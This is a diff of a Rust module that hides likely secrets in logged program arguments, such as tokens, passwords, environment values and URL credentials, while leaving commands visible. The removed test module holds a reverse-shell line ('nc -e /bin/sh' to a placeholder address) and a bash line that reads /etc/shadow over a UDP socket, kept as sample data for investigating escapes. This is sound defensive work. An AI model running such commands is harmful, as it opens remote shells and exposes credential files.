@@ -1,218 +1,255 @@
-//! Values among a program's arguments that are likely secrets: variables of an
-//! environment, tokens, passwords. Which there were is told, never what they are.
+//! What among a program's arguments may be a secret, and is not told: from the
+//! first sign of one to the end of its argument, so that neither quotes nor
+//! spaces nor commas in a value let a part of it pass. Rather too much is hidden
+//! than too little: what a program does shows in its calls as well.
 
-/// What stands for a value.
+use crate::filesystem::secrets;
+
+/// What stands for what is not told.
 const HIDDEN: &str = "***";
 
-/// Parts of names whose values are hidden, in lower case.
-const SECRET: [&str; 15] = [
+/// Parts of names, in lower case, wherever they stand. The longer first where
+/// one begins with another.
+const PARTS: [&str; 16] = [
     "token",
     "secret",
+    "password",
+    "passwd",
     "passw",
+    "passphrase",
+    "passcode",
     "pwd",
-    "api_key",
-    "api-key",
     "apikey",
-    "access_key",
-    "access-key",
-    "private_key",
-    "private-key",
     "credential",
     "authorization",
     "bearer",
     "cookie",
+    "session",
+    "signature",
+    "jwt",
 ];
 
+/// The same, where no letter follows: `bypass` is one, `passt` is none.
+const ENDS: [&str; 9] = [
+    "key", "pass", "auth", "pw", "psk", "cred", "creds", "sig", "otp",
+];
+
+/// In lists a value may stand before its name.
+const VALUES: [&str; 3] = ["data=", "value=", "{"];
+
 /// Options that set a variable.
-const SETS_VARIABLE: [&str; 3] = ["e", "env", "environment"];
+const SETS_VARIABLE: [&str; 3] = ["-e", "--env", "--environment"];
 
-/// Between parts of one argument: of a script, of QEMU's options.
-const BETWEEN: [char; 7] = [',', ';', '&', '|', '"', '\'', '`'];
+/// Digits of the longest number that is taken for a port, not for a password.
+const PORT: usize = 5;
 
-/// Arguments without the values that nobody is to read.
-pub(super) fn hide(words: impl Iterator<Item = String>) -> Vec<String> {
-    let mut option = None;
-    let hidden = words.map(|word| {
-        let before = std::mem::replace(&mut option, option_of(&word));
-        match before {
-            Some(Sets::Variable) if word.contains('=') => assigned(&word),
-            Some(Sets::Secret) if !word.starts_with('-') => HIDDEN.to_owned(),
-            _ => in_parts(&word),
+/// Arguments without what nobody is to read. Each comes with whether it was cut.
+pub(super) fn hide(words: impl Iterator<Item = (String, bool)>) -> Vec<String> {
+    let mut before = Says::Nothing;
+    let hidden = words.map(|(word, cut)| {
+        let said = std::mem::replace(&mut before, Says::by(&word));
+        match said {
+            Says::Secret => HIDDEN.to_owned(),
+            Says::Password if !is_port(&word) => HIDDEN.to_owned(),
+            _ if secrets::are_in(word.as_bytes()) => HIDDEN.to_owned(),
+            Says::Pair => told(&word, cut, after_pair(&word)),
+            Says::Variable => told(&word, cut, after(&word, '=')),
+            Says::Password | Says::Nothing => told(&word, cut, None),
         }
     });
     hidden.collect()
 }
 
-/// What an option says of the argument after it.
-enum Sets {
+/// What an argument says of the one after it.
+#[derive(Clone, Copy)]
+enum Says {
+    Nothing,
+    /// `NAME=value`.
     Variable,
+    /// `user:password`.
+    Pair,
+    /// A password, or a port.
+    Password,
     Secret,
 }
 
-fn option_of(word: &str) -> Option<Sets> {
-    let name = word.strip_prefix('-')?.trim_start_matches('-');
-    if SETS_VARIABLE.contains(&name) {
-        return Some(Sets::Variable);
+impl Says {
+    fn by(word: &str) -> Self {
+        if SETS_VARIABLE.contains(&word) {
+            return Self::Variable;
+        }
+        if let Some(end) = after_word(word)
+            && is_bare(word, end)
+        {
+            return Self::Secret;
+        }
+        if matches!(word, "-p" | "-P") {
+            return Self::Password;
+        }
+        match options(word).next() {
+            Some((0, name)) if sets_pair(name) && name.len() == word.len() => Self::Pair,
+            _ => Self::Nothing,
+        }
     }
-    let is_name = !name.contains(['=', ':', ' ']);
-    (is_name && is_secret(name)).then_some(Sets::Secret)
 }
 
-/// One argument may be a script, or a list of options.
-fn in_parts(word: &str) -> String {
-    // QEMU's objects, `-object secret,id=a,data=…` and the same as JSON.
-    let of_qemu = word.starts_with("secret,") || word.contains("qom-type=secret");
-    if word.starts_with('{') && word.contains("\"secret\"") {
-        return format!("{{{HIDDEN}}}");
+/// Whether a name ends with its argument, so that its value is the next: `--token`,
+/// `Authorization:`. A path is none.
+fn is_bare(word: &str, end: usize) -> bool {
+    let is_path = word.starts_with('/') && !word.contains(':');
+    let (before, rest) = word.split_at(end);
+    let in_name = |c: char| c.is_ascii_alphanumeric() || "-_.".contains(c);
+    let is_name = rest.trim_end_matches(['=', ':']).chars().all(in_name);
+    !is_path && is_name && (rest.is_empty() || !before.ends_with(['=', ':']))
+}
+
+/// An argument up to the first sign of a secret; `known` is one that is known of.
+fn told(word: &str, is_cut: bool, known: Option<usize>) -> String {
+    let signs = [
+        known,
+        before_word(word),
+        after_word(word),
+        after_variable(word),
+        after_option(word),
+    ];
+    let end = signs.into_iter().flatten().min().unwrap_or(word.len());
+    let (begin, at) = place(word, is_cut).unwrap_or((word.len(), word.len()));
+    let first = end.min(begin);
+    let mut said = word.get(..first).unwrap_or_default().to_owned();
+    if first < word.len() {
+        said.push_str(HIDDEN);
     }
-    let mut said = String::with_capacity(word.len());
-    let mut in_header = false;
-    for part in word.split_inclusive(|c: char| c.is_whitespace() || BETWEEN.contains(&c)) {
-        let body = part.trim_end_matches(|c: char| c.is_whitespace() || BETWEEN.contains(&c));
-        let end = part.get(body.len()..).unwrap_or_default();
-        let is_data = of_qemu && body.starts_with("data=");
-        if in_header && !body.is_empty() {
-            said.push_str(HIDDEN);
-        } else if is_data {
-            said.push_str(&assigned(body));
-        } else {
-            said.push_str(&in_part(body));
-        }
-        said.push_str(end);
-        // `Authorization: Bearer …`, to the end of the text.
-        in_header |= body.strip_suffix(':').is_some_and(is_secret);
-        in_header &= !end.contains(['"', '\'']);
+    // What follows the place of `https://user:password@place`.
+    if at < end {
+        said.push_str(word.get(at..end).unwrap_or_default());
+        said.push_str(if end < word.len() { HIDDEN } else { "" });
     }
     said
 }
 
-fn in_part(part: &str) -> String {
-    if let Some((scheme, rest)) = part.split_once("://") {
-        let (place, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
-        let place = place
-            .rsplit_once('@')
-            .map_or_else(|| place.to_owned(), |(_, host)| format!("{HIDDEN}@{host}"));
-        // What follows the place may be a query.
-        return format!("{scheme}://{place}{}", in_query(path));
+/// From after the first colon to the last `@`: user and password of a place. One
+/// that was cut may have had its `@` later.
+fn place(word: &str, is_cut: bool) -> Option<(usize, usize)> {
+    let begin = after(word, ':')?;
+    let end = if is_cut { word.len() } else { word.rfind('@')? };
+    (begin < end).then_some((begin, end))
+}
+
+/// The end of the first word that stands for a secret, with the sign that a value
+/// follows.
+fn after_word(word: &str) -> Option<usize> {
+    let (_, end) = first_word(word)?;
+    let rest = word.get(end..)?;
+    Some(end + usize::from(rest.starts_with(['=', ':'])))
+}
+
+/// Where a value may stand before the word that tells what it is.
+fn before_word(word: &str) -> Option<usize> {
+    let (begin, _) = first_word(word)?;
+    let before = word.get(..begin)?;
+    let ends = VALUES.iter().filter_map(|value| {
+        let at = before.find(value)?;
+        Some(at + value.len())
+    });
+    ends.min()
+}
+
+fn first_word(word: &str) -> Option<(usize, usize)> {
+    let lower = word.to_ascii_lowercase();
+    let parts = PARTS.iter().filter_map(|part| {
+        let at = lower.find(part)?;
+        Some((at, at + part.len()))
+    });
+    let ends = ENDS.iter().filter_map(|name| {
+        let mut found = lower.match_indices(name).map(|(at, _)| at);
+        let goes_on = |end: usize| {
+            lower
+                .as_bytes()
+                .get(end)
+                .is_some_and(u8::is_ascii_alphabetic)
+        };
+        let at = found.find(|at| !goes_on(at + name.len()))?;
+        Some((at, at + name.len()))
+    });
+    // Of two at one place the longer, which is the word that was meant.
+    let (begin, end) = parts
+        .chain(ends)
+        .min_by_key(|(at, end)| (*at, usize::MAX - end))?;
+    let is_plural = lower.get(end..)?.starts_with('s');
+    Some((begin, end + usize::from(is_plural)))
+}
+
+/// As shells and orchestrators write variables of an environment: `NAME=`.
+fn after_variable(word: &str) -> Option<usize> {
+    let in_name = |c: char| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_';
+    let equals = word.match_indices('=').map(|(at, _)| at);
+    let mut named = equals.filter(|at| {
+        let before = word.get(..*at).unwrap_or_default();
+        let name = before.trim_end_matches(in_name).len();
+        let name = before.get(name..).unwrap_or_default();
+        name.contains(|c: char| c.is_ascii_uppercase())
+    });
+    named.next().map(|at| at + 1)
+}
+
+/// Passwords of options, also amid a script: `-u user:…`, `-p…`, `--env=name=…`.
+fn after_option(word: &str) -> Option<usize> {
+    let ends = options(word).filter_map(|(at, name)| {
+        let end = at + name.len();
+        let rest = word.get(end..)?;
+        if sets_pair(name) {
+            // Of `-uuser:…` as well as of `-u user:…`.
+            return Some(at + after_pair(word.get(at..)?)?);
+        }
+        if let Some(value) = name.strip_prefix("-p").or_else(|| name.strip_prefix("-P")) {
+            let value = if value.is_empty() { rest } else { value };
+            let begin = at + 2;
+            return (!is_port(value) && begin < word.len()).then_some(begin);
+        }
+        if SETS_VARIABLE.contains(&name) && rest.starts_with('=') {
+            let set = after(rest.get(1..)?, '=')?;
+            return Some(end + 1 + set);
+        }
+        None
+    });
+    ends.min()
+}
+
+/// Where options begin, and their names with the dashes.
+fn options(word: &str) -> impl Iterator<Item = (usize, &str)> {
+    let in_name = |c: char| c.is_ascii_alphanumeric() || "-_".contains(c);
+    let dashes = word.match_indices('-').map(|(at, _)| at);
+    dashes.filter_map(move |at| {
+        let (before, from) = word.split_at_checked(at)?;
+        let len = from.find(|c| !in_name(c)).unwrap_or(from.len());
+        (!before.ends_with(in_name)).then_some((at, from.get(..len)?))
+    })
+}
+
+/// Whether an option may take `user:password`: `-u`, `-sU`, `--proxy-user`.
+fn sets_pair(name: &str) -> bool {
+    let lower = name.to_ascii_lowercase();
+    if lower.starts_with("--") {
+        return lower.contains("user");
     }
-    let Some((name, value)) = part.split_once(['=', ':']) else {
-        return part.to_owned();
-    };
-    let bare = name.trim_start_matches('-');
-    if SETS_VARIABLE.contains(&bare) && bare != name && value.contains('=') {
-        return format!("{name}={}", assigned(value));
-    }
-    let is_assigned = part.as_bytes().get(name.len()) == Some(&b'=');
-    if !value.is_empty() && (is_secret(bare) || is_assigned && is_variable(bare)) {
-        return assigned(part);
-    }
-    part.to_owned()
+    lower.contains('u')
 }
 
-fn in_query(path: &str) -> String {
-    let Some((place, query)) = path.split_once('?') else {
-        return path.to_owned();
-    };
-    format!("{place}?{}", in_part(query))
+fn after_pair(word: &str) -> Option<usize> {
+    word.find([':', '%']).map(|at| at + 1)
 }
 
-/// The name alone.
-fn assigned(word: &str) -> String {
-    let end = word.find(['=', ':']).map_or(0, |at| at + 1);
-    format!("{}{HIDDEN}", word.get(..end).unwrap_or_default())
+fn after(word: &str, sign: char) -> Option<usize> {
+    word.find(sign).map(|at| at + sign.len_utf8())
 }
 
-fn is_secret(name: &str) -> bool {
-    let name = name.to_ascii_lowercase();
-    SECRET.iter().any(|part| name.contains(part))
-}
-
-/// As shells and orchestrators write those of an environment.
-fn is_variable(name: &str) -> bool {
-    let known = |byte: u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_';
-    name.starts_with(|c: char| c.is_ascii_uppercase() || c == '_') && name.bytes().all(known)
+/// Whether a text begins with a number that is no longer than those of ports.
+fn is_port(text: &str) -> bool {
+    let text = text.trim_start_matches([' ', '=']);
+    let rest = text.trim_start_matches(|c: char| c.is_ascii_digit());
+    let digits = text.len() - rest.len();
+    (1..=PORT).contains(&digits) && !rest.starts_with(|c: char| !c.is_ascii_whitespace())
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use proptest::prelude::*;
-
-    #[track_caller]
-    fn check(line: &[&str], expected: &[&str]) {
-        let words = line.iter().map(|word| (*word).to_owned());
-        assert_eq!(hide(words), expected);
-    }
-
-    #[test]
-    fn values_of_variables_and_secrets_are_hidden() {
-        check(&["env", "HOME=/root", "sh"], &["env", "HOME=***", "sh"]);
-        check(&["--env", "home=x", "a=b"], &["--env", "home=***", "a=b"]);
-        check(&["-e", "A=x"], &["-e", "A=***"]);
-        check(&["--env=OPENAI_API_KEY=x"], &["--env=OPENAI_API_KEY=***"]);
-        check(
-            &["--token=x", "--api-key", "y"],
-            &["--token=***", "--api-key", "***"],
-        );
-        check(&["--password", "--quiet"], &["--password", "--quiet"]);
-        check(
-            &[
-                "curl",
-                "-H",
-                "Authorization: Bearer x y",
-                "https://u:x@h/p?token=x",
-            ],
-            &[
-                "curl",
-                "-H",
-                "Authorization: *** *** ***",
-                "https://***@h/p?token=***",
-            ],
-        );
-        check(
-            &["sh", "-c", "TOKEN=x curl -H 'X-Api-Key: x' h; A=x,b=c"],
-            &[
-                "sh",
-                "-c",
-                "TOKEN=*** curl -H 'X-Api-Key: ***' h; A=***,b=c",
-            ],
-        );
-        check(
-            &[
-                "-object",
-                "secret,id=s,data=x",
-                "-object",
-                "{\"qom-type\":\"secret\",\"data\":\"x\"}",
-            ],
-            &["-object", "secret,id=s,data=***", "-object", "{***}"],
-        );
-    }
-
-    /// They are what somebody who looks into an escape wants to read.
-    #[test]
-    fn what_a_program_does_is_told() {
-        for line in [
-            &[
-                "/bin/bash",
-                "-c",
-                "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow",
-            ][..],
-            &["dd", "if=/dev/sda", "of=/tmp/x", "bs=4k"],
-            &["nc", "-e", "/bin/sh", "203.0.113.9", "53"],
-            &["mount", "-o", "loop,offset=512", "a:b", "https://h/x?a=b"],
-        ] {
-            check(line, line);
-        }
-    }
-
-    proptest! {
-        #[test]
-        fn nothing_grows_beyond_bounds(words in prop::collection::vec(".{0,80}", 0..8)) {
-            let hidden = hide(words.clone().into_iter());
-            prop_assert_eq!(hidden.len(), words.len());
-            for (word, hidden) in words.iter().zip(hidden) {
-                prop_assert!(hidden.len() <= 4 * word.len() + 8);
-            }
-        }
-    }
-}
+mod tests;
